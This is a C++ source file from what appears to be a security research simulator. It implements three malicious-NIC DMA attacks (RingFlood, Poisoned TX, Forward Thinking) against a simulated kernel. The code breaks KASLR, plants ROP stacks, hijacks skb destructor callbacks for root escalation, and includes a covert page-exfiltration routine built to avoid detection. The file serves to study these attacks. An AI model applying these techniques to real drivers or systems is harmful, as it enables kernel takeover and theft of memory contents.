#include "attack/attacks.h"

#include <algorithm>
#include <cstring>
#include <sstream>

#include "net/layouts.h"

namespace spv::attack {

namespace {

constexpr uint32_t kAttackerIp = 0x0afe0001;
constexpr uint16_t kClosedPort = 60000;

std::vector<uint8_t> PadTo(std::vector<uint8_t> bytes, size_t size) {
  bytes.resize(std::max(bytes.size(), size), 0);
  return bytes;
}

// Device-side parse of a harvested page: qwords that classify as vmemmap
// pointers followed by a sane (offset, size) pair are frag entries.
struct ParsedFrag {
  uint64_t struct_page;
  uint32_t page_offset;
  uint32_t size;
};

std::vector<ParsedFrag> ScanForFragEntries(const std::vector<uint64_t>& qwords) {
  std::vector<ParsedFrag> frags;
  for (size_t i = 0; i + 1 < qwords.size(); ++i) {
    const uint64_t candidate = qwords[i];
    if (mem::KernelLayout::ClassifyByRange(Kva{candidate}) != mem::Region::kVmemmap) {
      continue;
    }
    const uint32_t page_offset = static_cast<uint32_t>(qwords[i + 1] & 0xffffffffu);
    const uint32_t size = static_cast<uint32_t>(qwords[i + 1] >> 32);
    if (page_offset < kPageSize && size > 0 && size <= 65536) {
      frags.push_back(ParsedFrag{candidate, page_offset, size});
    }
  }
  return frags;
}

// Publishes one attack-stage transition onto the machine's bus. The trace
// ring ends up holding the same narrative as AttackReport::steps, interleaved
// with the DMA/IOMMU events each stage caused.
void EmitStage(core::Machine& machine, std::string_view attack, const std::string& text) {
  telemetry::Hub& hub = machine.telemetry();
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = telemetry::EventKind::kAttackStage;
  event.severity = telemetry::Severity::kWarn;
  event.origin = &machine;
  // Narration carries recovered addresses: run-time text the event owns.
  event.site = telemetry::EventSite::Own({attack, ": ", text});
  hub.Publish(std::move(event));
  if (hub.enabled()) {
    hub.counter("attack.stages").Add();
  }
}

// Searches a byte block for the poison marker; returns the image start.
std::optional<uint64_t> FindPoisonImage(const std::vector<uint8_t>& block) {
  if (block.size() < PoisonLayout::kImageBytes) {
    return std::nullopt;
  }
  for (uint64_t at = 0; at + 8 <= block.size(); at += 8) {
    uint64_t value;
    std::memcpy(&value, block.data() + at, 8);
    if (value == PoisonLayout::kMarker && at >= PoisonLayout::kMarkerOffset) {
      return at - PoisonLayout::kMarkerOffset;
    }
  }
  return std::nullopt;
}

}  // namespace

std::string VulnerabilityAttributes::ToString() const {
  std::ostringstream out;
  out << "(1) malicious-buffer KVA: " << (malicious_buffer_kva ? "yes" : "no")
      << " | (2) callback write access: " << (callback_write_access ? "yes" : "no")
      << " | (3) time window: " << (time_window ? "yes" : "no");
  return out.str();
}

uint64_t SharedInfoOffset(uint32_t truesize) {
  return truesize - net::SkbDataAlign(net::SharedInfoLayout::kSize);
}

uint64_t DestructorArgOffset(uint32_t truesize) {
  return SharedInfoOffset(truesize) + net::SharedInfoLayout::kDestructorArg;
}

Status SeedResidualKernelData(core::Machine& machine, int objects) {
  // Freed kernel structures whose bytes linger on recycled pages: arrays of
  // list-linked structs, each carrying a self-referential pointer (direct
  // map) and an ops-style pointer into the kernel image (init_net stands in
  // for any known symbol). Allocated as large blocks so the dirty pages
  // coalesce back into the buddy allocator's lowest blocks — exactly the
  // pages page_frag pools and RX rings are carved from next.
  constexpr uint64_t kBlockBytes = 32 * 1024;
  constexpr uint64_t kStructStride = 512;
  std::vector<Kva> allocated;
  allocated.reserve(static_cast<size_t>(objects));
  const Kva init_net = machine.layout().SymbolKva(mem::kSymInitNet);
  for (int i = 0; i < objects; ++i) {
    Result<Kva> kva = machine.slab().Kmalloc(kBlockBytes, "residual_kernel_struct_array");
    if (!kva.ok()) {
      break;  // memory pressure: seed what we can
    }
    for (uint64_t off = 0; off + 16 <= kBlockBytes; off += kStructStride) {
      SPV_RETURN_IF_ERROR(machine.kmem().WriteU64(*kva + off, (*kva + off).value));
      SPV_RETURN_IF_ERROR(machine.kmem().WriteU64(*kva + off + 8, init_net.value));
    }
    allocated.push_back(*kva);
  }
  for (Kva kva : allocated) {
    SPV_RETURN_IF_ERROR(machine.slab().Kfree(kva));
  }
  return OkStatus();
}

namespace {

// Generic sub-page poke: write `bytes` at `field_offset` within the buffer
// that was posted as `consumed`, firing through every open access path.
PokeResult TryPokeBytes(device::MaliciousNic& nic, const net::RxPostedDescriptor& consumed,
                        uint64_t field_offset, std::span<const uint8_t> bytes,
                        const PokeOptions& options = {}) {
  PokeResult result;
  // Path (ii): the buffer's own IOVA. PTE is gone, but in deferred mode the
  // IOTLB entry warmed by the packet DMA is still live until the flush.
  if (options.try_own_iova && nic.port().Write(consumed.iova + field_offset, bytes).ok()) {
    result.own_iova_write = true;
  }
  // Path (iii): a neighbouring RX buffer's mapping covers our page. page_frag
  // allocates descending, so posted buffers sit at +/- truesize from ours.
  const uint32_t truesize = consumed.buf_len;
  if (options.try_neighbor) {
    for (const net::RxPostedDescriptor& other : nic.rx_posted()) {
      for (int64_t delta :
           {-static_cast<int64_t>(truesize), static_cast<int64_t>(truesize)}) {
        // If other = consumed + delta in KVA space, then our field lives at
        // (field_offset - delta) relative to other's buffer start.
        const int64_t rel = static_cast<int64_t>(field_offset) - delta;
        const int64_t target = static_cast<int64_t>(other.iova.value) + rel;
        const uint64_t span_begin = other.iova.PageBase().value;
        const uint64_t pages =
            (other.iova.page_offset() + other.buf_len + kPageSize - 1) >> kPageShift;
        const uint64_t span_end = span_begin + (pages << kPageShift);
        if (target < 0 || static_cast<uint64_t>(target) < span_begin ||
            static_cast<uint64_t>(target) + bytes.size() > span_end) {
          continue;
        }
        if (nic.port().Write(Iova{static_cast<uint64_t>(target)}, bytes).ok()) {
          result.neighbor_write = true;
        }
      }
    }
  }
  result.success = result.own_iova_write || result.neighbor_write;
  if (result.own_iova_write && result.neighbor_write) {
    result.path = "own-iova+neighbor-iova";
  } else if (result.own_iova_write) {
    result.path = "own-iova";
  } else if (result.neighbor_write) {
    result.path = "neighbor-iova";
  }
  return result;
}

}  // namespace

PokeResult TryPokeDestructorArg(device::MaliciousNic& nic,
                                const net::RxPostedDescriptor& consumed, uint32_t truesize,
                                uint64_t destructor_arg, const PokeOptions& options) {
  return TryPokeQword(nic, consumed, DestructorArgOffset(truesize), destructor_arg, options);
}

PokeResult TryPokeQword(device::MaliciousNic& nic, const net::RxPostedDescriptor& consumed,
                        uint64_t field_offset, uint64_t value, const PokeOptions& options) {
  uint8_t bytes[8];
  std::memcpy(bytes, &value, 8);
  return TryPokeBytes(nic, consumed, field_offset, bytes, options);
}

// ---- RingFlood ----------------------------------------------------------------------

void RingFloodAttack::ReplayBootNoise(core::Machine& machine, uint64_t seed,
                                      int base_allocs) {
  // The same module-init allocation sequence every boot, shifted slightly by
  // multi-core scheduling jitter.
  Xoshiro256 jitter{seed * 7919};
  const int allocs = base_allocs + static_cast<int>(jitter.NextBelow(5));
  std::vector<Kva> noise;
  for (int i = 0; i < allocs; ++i) {
    const uint64_t sizes[] = {128, 256, 512, 1024, 2048};
    auto kva = machine.slab().Kmalloc(sizes[jitter.NextBelow(5)], "boot_noise");
    if (kva.ok()) {
      noise.push_back(*kva);
    }
  }
  for (Kva kva : noise) {
    if (jitter.NextBool(0.5)) {
      (void)machine.slab().Kfree(kva);
    }
  }
}

std::map<uint64_t, int> RingFloodAttack::ProfileRxPfns(const ProfileOptions& options) {
  std::map<uint64_t, int> histogram;
  for (int boot = 0; boot < options.boots; ++boot) {
    core::MachineConfig config = options.machine;
    config.seed = options.base_seed + static_cast<uint64_t>(boot);
    core::Machine machine{config};
    ReplayBootNoise(machine, config.seed, options.boot_noise_allocs);

    std::set<uint64_t> boot_pfns;
    for (int ring = 0; ring < std::max(options.num_rings, 1); ++ring) {
      net::NicDriver::Config ring_config = options.driver;
      ring_config.cpu = CpuId{static_cast<uint32_t>(ring)};
      net::NicDriver& driver = machine.AddNicDriver(ring_config);
      if (!driver.FillRxRing().ok()) {
        continue;
      }
      for (uint32_t slot = 0; slot < ring_config.rx_ring_size; ++slot) {
        auto kva = driver.RxSlotKva(slot);
        if (!kva.has_value()) {
          continue;
        }
        auto phys = machine.layout().DirectMapKvaToPhys(*kva);
        const uint64_t first = phys->pfn().value;
        const uint64_t last = (phys->value + driver.rx_buffer_bytes() - 1) >> kPageShift;
        for (uint64_t pfn = first; pfn <= last; ++pfn) {
          boot_pfns.insert(pfn);
        }
      }
    }
    for (uint64_t pfn : boot_pfns) {
      ++histogram[pfn];
    }
  }
  return histogram;
}

uint64_t RingFloodAttack::MostCommonPfn(const std::map<uint64_t, int>& histogram) {
  uint64_t best = 0;
  int best_count = -1;
  for (const auto& [pfn, count] : histogram) {
    if (count > best_count) {
      best = pfn;
      best_count = count;
    }
  }
  return best;
}

Result<AttackReport> RingFloodAttack::Run(const AttackEnv& env, const Options& options) {
  trace::ScopedSpan attack_span(env.machine.tracer(), "attack.ring_flood");
  AttackReport report;
  auto step = [&](std::string text) {
    EmitStage(env.machine, "ring_flood", text);
    report.steps.push_back(std::move(text));
  };

  // -- Bootstrap KASLR from the victim's own outbound traffic ----------------
  auto socket = env.machine.stack().CreateSocket(options.heartbeat_port, false);
  if (!socket.ok()) {
    return socket.status();
  }
  net::PacketHeader heartbeat{.src_ip = env.machine.stack().config().local_ip,
                              .dst_ip = 0x08080808,
                              .src_port = options.heartbeat_port,
                              .dst_port = options.heartbeat_port,
                              .proto = net::kProtoUdp};
  std::vector<uint8_t> beat(300, 0x42);
  SPV_RETURN_IF_ERROR(env.machine.stack().SendPacket(heartbeat, beat));
  step("victim sent routine outbound traffic (NTP-style heartbeat)");

  KaslrBreaker breaker;
  Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
  if (harvest.ok()) {
    breaker.Consume(*harvest);
  }
  report.kaslr = breaker.knowledge();
  step("device harvested TX-readable pages: " + breaker.knowledge().ToString());
  if (!breaker.knowledge().text_base.has_value() ||
      !breaker.knowledge().page_offset_base.has_value()) {
    step("KASLR bootstrap failed — aborting");
    return report;
  }

  // -- Poison every posted RX buffer ------------------------------------------
  const uint32_t truesize = env.nic.rx_buffer_bytes();
  if (options.poison_offset_in_buffer + PoisonLayout::kImageBytes > SharedInfoOffset(truesize)) {
    return InvalidArgument("poison offset collides with shared_info");
  }
  struct PoisonRecord {
    uint32_t index;
    uint64_t ubuf_guess;
  };
  std::vector<PoisonRecord> poisons;
  int poisoned = 0;
  for (const net::RxPostedDescriptor& descriptor : env.device.rx_posted()) {
    const Iova at = descriptor.iova + options.poison_offset_in_buffer;
    if (at.PageBase() != (at + PoisonLayout::kImageBytes - 1).PageBase()) {
      continue;  // image would straddle a page; KVA guess would be wrong
    }
    const uint64_t ubuf_guess =
        *breaker.knowledge().PfnToKva(options.pfn_guess, at.page_offset());
    Result<std::vector<uint8_t>> image = BuildPoisonImage(breaker.knowledge(), ubuf_guess);
    if (!image.ok()) {
      return image.status();
    }
    if (env.device.port().Write(at, *image).ok()) {
      poisons.push_back(PoisonRecord{descriptor.index, ubuf_guess});
      ++poisoned;
    }
  }
  report.attributes.malicious_buffer_kva = true;  // derived (guessed) KVA in hand
  report.attributes.callback_write_access = true; // shared_info offsets known
  step("poisoned " + std::to_string(poisoned) + " RX ring buffers with ROP stacks");

  // -- Trigger: ordinary RX traffic frees skbs, firing the callback ------------
  const size_t ring = env.device.rx_posted().size();
  for (size_t i = 0; i < ring && !env.cpu.privilege_escalated(); ++i) {
    net::PacketHeader trigger{.src_ip = kAttackerIp,
                              .dst_ip = env.machine.stack().config().local_ip,
                              .src_port = 1234,
                              .dst_port = kClosedPort,
                              .proto = net::kProtoUdp};
    std::vector<uint8_t> payload(64, 0x11);
    if (env.device.rx_posted().empty()) {
      break;
    }
    const net::RxPostedDescriptor consumed = env.device.rx_posted().front();
    Result<uint32_t> index = env.device.InjectRx(trigger, payload);
    if (!index.ok()) {
      break;
    }
    Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
        *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
    if (!skb.ok()) {
      continue;
    }
    // The CPU just re-initialized shared_info; reassert destructor_arg
    // through whatever window is open.
    auto record = std::find_if(poisons.begin(), poisons.end(),
                               [&](const PoisonRecord& p) { return p.index == consumed.index; });
    if (record != poisons.end()) {
      PokeResult poke =
          TryPokeDestructorArg(env.device, consumed, truesize, record->ubuf_guess);
      if (poke.success) {
        report.attributes.time_window = true;
        report.window_path = poke.path;
      }
    }
    SPV_RETURN_IF_ERROR(env.machine.stack().NapiGroReceive(std::move(*skb)));
  }
  report.success = env.cpu.privilege_escalated();
  step(report.success
           ? "callback fired into JOP pivot -> ROP chain -> commit_creds(root)"
           : "PFN guess missed: callback pointed at garbage (no escalation)");
  return report;
}

// ---- Poisoned TX ---------------------------------------------------------------------

Result<AttackReport> PoisonedTxAttack::Run(const AttackEnv& env, const Options& options) {
  trace::ScopedSpan attack_span(env.machine.tracer(), "attack.poisoned_tx");
  AttackReport report;
  auto step = [&](std::string text) {
    EmitStage(env.machine, "poisoned_tx", text);
    report.steps.push_back(std::move(text));
  };
  net::NetworkStack& stack = env.machine.stack();
  KaslrBreaker breaker;

  // -- Bootstrap: innocuous echo leaks the socket page --------------------------
  net::PacketHeader echo_header{.src_ip = kAttackerIp,
                                .dst_ip = stack.config().local_ip,
                                .src_port = 40000,
                                .dst_port = options.echo_port,
                                .proto = net::kProtoUdp};
  {
    std::vector<uint8_t> probe(options.bootstrap_payload_bytes, 0x41);
    Result<uint32_t> index = env.device.InjectRx(echo_header, probe);
    if (!index.ok()) {
      return index.status();
    }
    Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
        *index, static_cast<uint32_t>(net::PacketHeader::kSize + probe.size()));
    if (!skb.ok()) {
      return skb.status();
    }
    SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
  }
  {
    Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
    if (harvest.ok()) {
      breaker.Consume(*harvest);
    }
  }
  step("bootstrap echo: harvested socket page -> " + breaker.knowledge().ToString());
  if (!breaker.knowledge().text_base.has_value() ||
      !breaker.knowledge().page_offset_base.has_value()) {
    report.kaslr = breaker.knowledge();
    step("KASLR bootstrap failed — aborting");
    return report;
  }

  // -- Poison echo: the service obligingly copies our ROP stack into a TX frag --
  Result<std::vector<uint8_t>> image = BuildPoisonImage(breaker.knowledge(), 0);
  if (!image.ok()) {
    return image.status();
  }
  {
    std::vector<uint8_t> payload = PadTo(*image, options.poison_payload_bytes);
    Result<uint32_t> index = env.device.InjectRx(echo_header, payload);
    if (!index.ok()) {
      return index.status();
    }
    Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
        *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
    if (!skb.ok()) {
      return skb.status();
    }
    SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
  }
  step("poison echoed: TX posted with payload in frags (device delays completion)");

  // -- Locate our buffer: read frags, find the marker, translate to KVA ---------
  Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
  if (harvest.ok()) {
    breaker.Consume(*harvest);  // frag struct-page pointers pin vmemmap_base
  }
  report.kaslr = breaker.knowledge();
  step("second harvest: " + breaker.knowledge().ToString());

  std::optional<uint64_t> ubuf_kva;
  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    if (descriptor.frag_iovas.empty()) {
      continue;
    }
    Result<std::vector<uint64_t>> linear_page =
        env.device.port().ReadPageQwords(descriptor.linear_iova);
    if (!linear_page.ok()) {
      continue;
    }
    const std::vector<ParsedFrag> frags = ScanForFragEntries(*linear_page);
    for (size_t j = 0; j < descriptor.frag_iovas.size() && j < frags.size(); ++j) {
      Result<std::vector<uint8_t>> content =
          env.device.port().ReadBlock(descriptor.frag_iovas[j], descriptor.frag_lens[j]);
      if (!content.ok()) {
        continue;
      }
      std::optional<uint64_t> image_off = FindPoisonImage(*content);
      if (!image_off.has_value()) {
        continue;
      }
      Result<uint64_t> data_kva = breaker.knowledge().StructPageToDataKva(
          frags[j].struct_page, frags[j].page_offset);
      if (data_kva.ok()) {
        ubuf_kva = *data_kva + *image_off;
      }
    }
  }
  if (!ubuf_kva.has_value()) {
    step("could not locate poison buffer KVA — aborting");
    return report;
  }
  report.attributes.malicious_buffer_kva = true;
  {
    std::ostringstream out;
    out << "poison buffer located at KVA 0x" << std::hex << *ubuf_kva;
    step(out.str());
  }

  // -- Hijack: point a dying RX skb's destructor_arg at our buffer --------------
  if (env.device.rx_posted().empty()) {
    return Unavailable("no RX descriptors for the trigger packet");
  }
  const net::RxPostedDescriptor consumed = env.device.rx_posted().front();
  net::PacketHeader trigger{.src_ip = kAttackerIp,
                            .dst_ip = stack.config().local_ip,
                            .src_port = 1,
                            .dst_port = kClosedPort,
                            .proto = net::kProtoUdp};
  std::vector<uint8_t> trigger_payload(32, 0x00);
  Result<uint32_t> index = env.device.InjectRx(trigger, trigger_payload);
  if (!index.ok()) {
    return index.status();
  }
  Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
      *index, static_cast<uint32_t>(net::PacketHeader::kSize + trigger_payload.size()));
  if (!skb.ok()) {
    return skb.status();
  }
  report.attributes.callback_write_access = true;
  PokeResult poke =
      TryPokeDestructorArg(env.device, consumed, env.nic.rx_buffer_bytes(), *ubuf_kva);
  report.window_path = poke.path;
  report.attributes.time_window = poke.success;
  step("destructor_arg overwrite via " + poke.path);
  SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));

  report.success = env.cpu.privilege_escalated();
  step(report.success ? "trigger skb freed -> JOP pivot -> ROP -> commit_creds(root)"
                      : "no escalation");

  // -- Cleanup: sign the delayed TX completions before the watchdog fires -------
  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    (void)stack.OnTxCompleted(descriptor.index);
  }
  env.device.tx_posted().clear();
  return report;
}

// ---- Forward Thinking ------------------------------------------------------------------

Result<AttackReport> ForwardThinkingAttack::Run(const AttackEnv& env, const Options& options) {
  trace::ScopedSpan attack_span(env.machine.tracer(), "attack.forward_thinking");
  AttackReport report;
  auto step = [&](std::string text) {
    EmitStage(env.machine, "forward_thinking", text);
    report.steps.push_back(std::move(text));
  };
  net::NetworkStack& stack = env.machine.stack();
  if (!stack.config().forwarding_enabled) {
    return FailedPrecondition("forwarding disabled on the victim");
  }
  KaslrBreaker breaker;

  auto send_stream = [&](uint16_t src_port, int segments,
                         const std::vector<std::vector<uint8_t>>& payloads)
      -> Result<std::vector<net::RxPostedDescriptor>> {
    std::vector<net::RxPostedDescriptor> consumed_list;
    for (int s = 0; s < segments; ++s) {
      net::PacketHeader header{.src_ip = kAttackerIp,
                               .dst_ip = options.remote_ip,
                               .src_port = src_port,
                               .dst_port = 443,
                               .proto = net::kProtoTcp,
                               .flags = 0,
                               .payload_len = 0,
                               .seq = static_cast<uint32_t>(s) * 600};
      const std::vector<uint8_t>& payload = payloads[static_cast<size_t>(s) % payloads.size()];
      if (env.device.rx_posted().empty()) {
        return Unavailable("RX ring empty");
      }
      consumed_list.push_back(env.device.rx_posted().front());
      Result<uint32_t> index = env.device.InjectRx(header, payload);
      if (!index.ok()) {
        return index.status();
      }
      Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
          *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
      if (!skb.ok()) {
        return skb.status();
      }
      SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
    }
    SPV_RETURN_IF_ERROR(stack.NapiComplete());  // GRO flush -> forward -> TX
    return consumed_list;
  };

  // -- Probe stream: forwarded TX pages leak residual kernel pointers -----------
  {
    std::vector<std::vector<uint8_t>> probe{std::vector<uint8_t>(600, 0x33)};
    Result<std::vector<net::RxPostedDescriptor>> consumed =
        send_stream(50001, options.bootstrap_segments, probe);
    if (!consumed.ok()) {
      return consumed.status();
    }
    Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
    if (harvest.ok()) {
      breaker.Consume(*harvest);
    }
  }
  report.kaslr = breaker.knowledge();
  step("probe stream forwarded; harvest -> " + breaker.knowledge().ToString());
  if (!breaker.knowledge().complete()) {
    step("KASLR bootstrap incomplete — aborting");
    return report;
  }

  // -- Poison stream: our ROP stack rides a GRO frag out of the box -------------
  Result<std::vector<uint8_t>> image = BuildPoisonImage(breaker.knowledge(), 0);
  if (!image.ok()) {
    return image.status();
  }
  std::vector<std::vector<uint8_t>> payloads{std::vector<uint8_t>(600, 0x44),
                                             PadTo(*image, 600)};
  Result<std::vector<net::RxPostedDescriptor>> consumed = send_stream(50002, 4, payloads);
  if (!consumed.ok()) {
    return consumed.status();
  }
  const net::RxPostedDescriptor head_descriptor = consumed->front();
  step("poison stream aggregated by GRO and forwarded (completion delayed)");

  // -- Locate the poison via the forwarded frags --------------------------------
  std::optional<uint64_t> ubuf_kva;
  uint32_t hijack_tx_index = 0;
  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    if (descriptor.frag_iovas.empty()) {
      continue;
    }
    Result<std::vector<uint64_t>> linear_page =
        env.device.port().ReadPageQwords(descriptor.linear_iova);
    if (!linear_page.ok()) {
      continue;
    }
    const std::vector<ParsedFrag> frags = ScanForFragEntries(*linear_page);
    for (size_t j = 0; j < descriptor.frag_iovas.size() && j < frags.size(); ++j) {
      Result<std::vector<uint8_t>> content =
          env.device.port().ReadBlock(descriptor.frag_iovas[j], descriptor.frag_lens[j]);
      if (!content.ok()) {
        continue;
      }
      std::optional<uint64_t> image_off = FindPoisonImage(*content);
      if (!image_off.has_value()) {
        continue;
      }
      Result<uint64_t> data_kva = breaker.knowledge().StructPageToDataKva(
          frags[j].struct_page, frags[j].page_offset);
      if (data_kva.ok()) {
        ubuf_kva = *data_kva + *image_off;
        hijack_tx_index = descriptor.index;
      }
    }
  }
  if (!ubuf_kva.has_value()) {
    step("poison frag not located — aborting");
    return report;
  }
  report.attributes.malicious_buffer_kva = true;
  {
    std::ostringstream out;
    out << "GRO frag leaked our buffer KVA: 0x" << std::hex << *ubuf_kva;
    step(out.str());
  }

  // -- Hijack the forwarded skb's own destructor --------------------------------
  report.attributes.callback_write_access = true;
  PokeResult poke = TryPokeDestructorArg(env.device, head_descriptor,
                                         env.nic.rx_buffer_bytes(), *ubuf_kva);
  report.window_path = poke.path;
  report.attributes.time_window = poke.success;
  step("destructor_arg overwrite on forwarded head skb via " + poke.path);

  // -- Trigger: sign the TX completion; the kernel frees the skb ----------------
  SPV_RETURN_IF_ERROR(stack.OnTxCompleted(hijack_tx_index));
  report.success = env.cpu.privilege_escalated();
  step(report.success ? "TX completion freed skb -> JOP pivot -> ROP -> commit_creds(root)"
                      : "no escalation");

  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    if (descriptor.index != hijack_tx_index) {
      (void)stack.OnTxCompleted(descriptor.index);
    }
  }
  env.device.tx_posted().clear();
  return report;
}

Result<std::vector<uint8_t>> ForwardThinkingAttack::SurveillanceRead(
    const AttackEnv& env, const KaslrKnowledge& knowledge, uint64_t target_pfn,
    uint32_t offset, uint32_t len, uint32_t remote_ip) {
  net::NetworkStack& stack = env.machine.stack();
  if (!stack.config().forwarding_enabled) {
    return FailedPrecondition("forwarding disabled on the victim");
  }
  if (!knowledge.vmemmap_base.has_value()) {
    return Unavailable("vmemmap base unknown");
  }
  if (env.device.rx_posted().empty()) {
    return Unavailable("RX ring empty");
  }

  // Small UDP packet destined for forwarding.
  const net::RxPostedDescriptor consumed = env.device.rx_posted().front();
  net::PacketHeader header{.src_ip = kAttackerIp,
                           .dst_ip = remote_ip,
                           .src_port = 50777,
                           .dst_port = 53,
                           .proto = net::kProtoUdp};
  std::vector<uint8_t> payload(32, 0x77);
  Result<uint32_t> index = env.device.InjectRx(header, payload);
  if (!index.ok()) {
    return index.status();
  }
  Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
      *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
  if (!skb.ok()) {
    return skb.status();
  }

  // Forge a frag pointing at the page we want to exfiltrate: the driver will
  // blindly map it for READ (§5.5).
  const uint32_t truesize = env.nic.rx_buffer_bytes();
  const uint64_t struct_page = *knowledge.vmemmap_base + target_pfn * mem::kStructPageSize;
  uint8_t frag_entry[16];
  std::memcpy(frag_entry, &struct_page, 8);
  std::memcpy(frag_entry + 8, &offset, 4);
  std::memcpy(frag_entry + 12, &len, 4);
  PokeResult frag_poke = TryPokeBytes(
      env.device, consumed, SharedInfoOffset(truesize) + net::SharedInfoLayout::kFrags,
      frag_entry);
  if (!frag_poke.success) {
    return Unavailable("no write window to plant the forged frag");
  }
  const uint8_t one = 1;
  PokeResult count_poke = TryPokeBytes(env.device, consumed, SharedInfoOffset(truesize),
                                       std::span<const uint8_t>(&one, 1));
  if (!count_poke.success) {
    return Unavailable("no write window to set nr_frags");
  }

  const size_t tx_before = env.device.tx_posted().size();
  SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
  if (env.device.tx_posted().size() <= tx_before) {
    return Unavailable("packet was not forwarded");
  }
  const net::TxPostedDescriptor descriptor = env.device.tx_posted().back();
  if (descriptor.frag_iovas.empty()) {
    return Internal("forged frag was not mapped");
  }
  Result<std::vector<uint8_t>> secret =
      env.device.port().ReadBlock(descriptor.frag_iovas[0], len);

  // Undo the forgery before signalling completion to stay undetected (§5.5).
  const uint8_t zero = 0;
  (void)TryPokeBytes(env.device, consumed, SharedInfoOffset(truesize),
                     std::span<const uint8_t>(&zero, 1));
  (void)stack.OnTxCompleted(descriptor.index);
  env.device.tx_posted().pop_back();
  return secret;
}

}  // namespace spv::attack
